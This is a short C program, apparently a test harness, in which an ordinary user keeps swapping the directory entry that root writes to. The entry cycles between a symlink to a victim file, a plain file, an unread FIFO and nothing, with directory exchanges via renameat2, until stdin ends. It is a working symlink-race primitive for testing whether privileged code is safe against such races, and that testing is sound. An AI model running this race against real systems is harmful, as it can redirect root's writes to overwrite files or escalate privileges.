// An ordinary user who swaps what lies in his directory while root writes there: swapper DIR VICTIM VICTIM_DIR, until standard input ends.
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int is_over(void)
{
	struct pollfd input = { .fd = 0, .events = POLLIN };

	return poll(&input, 1, 0) != 0;
}

int main(int argc, char **argv)
{
	unsigned long rounds = 0;

	if (argc != 4 || chdir(argv[1]))
		return 2;
	if (mkdir("real", 0777) || symlink(argv[3], "sub"))
		return 3;
	puts("swapping");
	fflush(stdout);
	while (!is_over()) {
		/* A link to the victim, a file, a FIFO that nobody reads, and nothing, under the name that root writes to. */
		(void)!symlink(argv[2], "next");
		(void)!rename("next", "out");
		(void)!renameat2(AT_FDCWD, "sub", AT_FDCWD, "real", RENAME_EXCHANGE);
		(void)!symlink(argv[2], "real/next");
		(void)!rename("real/next", "real/out");
		close(open("next", O_CREAT | O_WRONLY, 0666));
		(void)!rename("next", "out");
		(void)!renameat2(AT_FDCWD, "sub", AT_FDCWD, "real", RENAME_EXCHANGE);
		(void)!mkfifo("next", 0666);
		(void)!rename("next", "out");
		(void)!unlink("out");
		rounds++;
	}
	printf("%lu\n", rounds);
	return 0;
}
